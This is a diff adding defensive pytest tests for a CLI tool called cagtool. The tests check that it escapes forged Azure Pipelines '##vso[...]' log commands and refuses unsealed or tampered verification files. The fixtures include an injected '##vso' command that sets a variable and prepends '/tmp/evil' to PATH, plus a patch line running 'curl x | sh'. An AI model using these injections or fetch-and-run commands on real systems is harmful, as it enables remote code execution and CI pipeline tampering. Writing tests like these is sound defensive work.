@@ -16,6 +16,7 @@ import pytest
 from conftest import cli_in_process as cagtool
 
 from cagtool.record.manifest import ModeManifest, RunMeta, to_dict
+from cagtool.record.seal import KEY_FILE_ENV, with_document_seal
 from cagtool.report.checkpointing import CheckpointingResult, ModeSaving, Side
 from cagtool.report.text.safe_text import safe_line, safe_text
 
@@ -98,6 +99,31 @@ def test_the_runners_older_command_form_is_shown_never_obeyed(tmp_path):
         assert "##[" not in out + err and "##\\[error]gate passed" in out, out
 
 
+def test_an_azure_pipelines_command_anywhere_in_a_line_is_shown_never_obeyed(tmp_path):
+    """Azure Pipelines' agent acts on `##vso[...]` wherever it stands in a line of stdout or stderr
+    (set a pipeline variable, prepend to PATH, upload a file): a forged target name holding one
+    reaches summary's and compare's lines escaped, and the console's stream escapes it
+    whatever wrote it, split across writes included."""
+    import io
+
+    from cagtool.report.text.console import make_console
+
+    payload = "train.py ##vso[task.setvariable variable=PWNED]yes"
+    assert safe_text(payload) == safe_line(payload) == "train.py ##vso\\[task.setvariable variable=PWNED]yes"
+    assert safe_text(safe_text(payload)) == safe_text(payload)
+    run = _write_run(tmp_path / "r", target=payload)
+    for command in (("summary",), ("compare",)):
+        code, out, err = cagtool(*command, str(run))
+        assert "##vso[" not in out + err and "##vso\\[task.setvariable" in out + err, (command, out, err)
+    stream = io.StringIO()
+    console = make_console(stream, width=30)
+    console.file.write("aaaa ##v")
+    console.file.write("so[task.prependpath]/tmp/evil ##")
+    console.file.write("[error]x #")
+    console.file.flush()
+    assert stream.getvalue() == "aaaa ##vso\\[task.prependpath]/tmp/evil ##\\[error]x #"
+
+
 # ------------------------------------------------------------------ compare --format csv
 
 def test_compare_csv_holds_a_forged_field_within_its_cell_on_one_line(tmp_path):
@@ -163,18 +189,55 @@ def test_a_forged_verification_missing_keys_is_left_unread(tmp_path, damage):
     run = _write_run(tmp_path / "r")
     expected = cagtool("summary", str(run))
     assert expected[0] == 0, expected
-    (run / "verification.json").write_text(json.dumps(_verification()))
+    (run / "verification.json").write_text(json.dumps(with_document_seal(_verification())))
     code, out, err = cagtool("summary", str(run))
     assert code == 0 and "Fixes verified by re-running" in out, err  # the file as verify/ writes it is read
-    (run / "verification.json").write_text(json.dumps(_damaged(DAMAGED[damage])))
+    (run / "verification.json").write_text(json.dumps(with_document_seal(_damaged(DAMAGED[damage]))))
     code, out, err = cagtool("summary", str(run))
     said = [line for line in out.splitlines(keepends=True) if "verification.json left unread" in line]
-    assert len(said) == 1 and "not what `cagtool recompiles --explain --verify` writes" in said[0], out  # said, not silently dropped
+    assert len(said) == 1 and "not what your `cagtool recompiles --explain --verify` wrote" in said[0], out  # said, not silently dropped
     assert (code, out.replace(said[0], ""), err) == expected
     code, out, err = cagtool("summary", str(run), "--format", "json")
     assert code == 0 and "verification" not in json.loads(out) and "left unread" in json.loads(out)["verification_unread"], err
     code, out, err = cagtool("report", str(run), "-o", str(tmp_path / "report.html"))
     assert code == 0 and "Traceback" not in err, err
+
+
+def test_a_verification_this_users_cagtool_did_not_write_is_never_shown_as_verified(tmp_path):
+    """A run handed over (a PR's artifact, a teammate's upload) with a verification.json of the
+    forger's making said "fix verified ... verified by re-running this job" in the summary's headline,
+    with the forger's diff to apply. What verify writes is sealed under this user's key
+    (record/seal.py): one without a seal, edited after it was sealed, or sealed by another key is
+    left unread, said so; as is a checkpointing.json."""
+    run = _write_run(tmp_path / "r")
+    expected = cagtool("summary", str(run))
+    diff = "--- a/train.py\n+++ b/train.py\n@@ -3 +3 @@\n+__import__('os').system('curl x | sh')\n"
+    genuine = with_document_seal(_verification(diff=diff))
+    edited = {**genuine, "wall_s": 3.0}
+    other_key = tmp_path / "other.key"
+    other_key.write_bytes(bytes(range(32)))
+    import os
+
+    os.environ[KEY_FILE_ENV] = str(other_key)
+    try:
+        elsewhere = with_document_seal(_verification(diff=diff))
+    finally:
+        del os.environ[KEY_FILE_ENV]
+    for forged in (_verification(diff=diff), edited, elsewhere):
+        (run / "verification.json").write_text(json.dumps(forged))
+        code, out, err = cagtool("summary", str(run))
+        assert code == 0 and "verified" not in out.replace("verification.json left unread", "").replace("--verify", ""), out
+        assert "curl" not in out and "verification.json left unread" in out
+        assert out.count("\n") == expected[1].count("\n") + 1, out
+    (run / "verification.json").write_text(json.dumps(genuine))
+    assert "Fixes verified by re-running" in cagtool("summary", str(run))[1]
+    from cagtool.report.checkpointing import CHECKPOINTING_FILE, load_checkpointing
+
+    document = {"format": "cagtool-checkpointing", "run": "r", "modes": {}, "wall_s": 1.0}
+    (run / CHECKPOINTING_FILE).write_text(json.dumps(document))
+    assert load_checkpointing(run) is None
+    (run / CHECKPOINTING_FILE).write_text(json.dumps(with_document_seal(document)))
+    assert load_checkpointing(run) == document
 
 
 # ------------------------------------------------------------------ compile --show, patch diffs
@@ -196,7 +259,7 @@ def test_compile_show_and_a_patch_diff_never_print_a_recorded_line_beginning_wit
     _starts_no_command("compile --show", out)
     assert ":\\:error::FORGED" in out and " \u3000\u00a0\t:\\:warning::INDENTED" in out and "    x = torch::relu(x)\n" in out, out
 
-    (run / "verification.json").write_text(json.dumps(_verification(diff=f"--- a/train.py\n+++ b/train.py\n@@ -3 +3 @@{FORGED}\n+{WRAPPED}\n")))
+    (run / "verification.json").write_text(json.dumps(with_document_seal(_verification(diff=f"--- a/train.py\n+++ b/train.py\n@@ -3 +3 @@{FORGED}\n+{WRAPPED}\n"))))
     for command in (("summary", str(run)), ("recompiles", str(run), "--explain")):
         for columns in ("", "30"):
             code, out, err = cagtool(*command, env={"COLUMNS": columns} if columns else None)
@@ -316,7 +379,7 @@ def test_what_verify_writes_is_what_its_reader_takes(tmp_path):
     fix = filled(FixResult, measured=side, patch=patch)
     not_applied = [{"cause": 2, "code": "c", "who": "w", "why": "y", "patch": None, "nothing_to_change": False, "caused_by": 1}]
     written = filled(Verification, baseline=side, fixes=[fix], not_applied=not_applied).to_dict()
-    (tmp_path / VERIFICATION_FILE).write_text(json.dumps(written))
+    (tmp_path / VERIFICATION_FILE).write_text(json.dumps(with_document_seal(written)))
     assert load_verification(tmp_path) == json.loads(json.dumps(written))
 
 
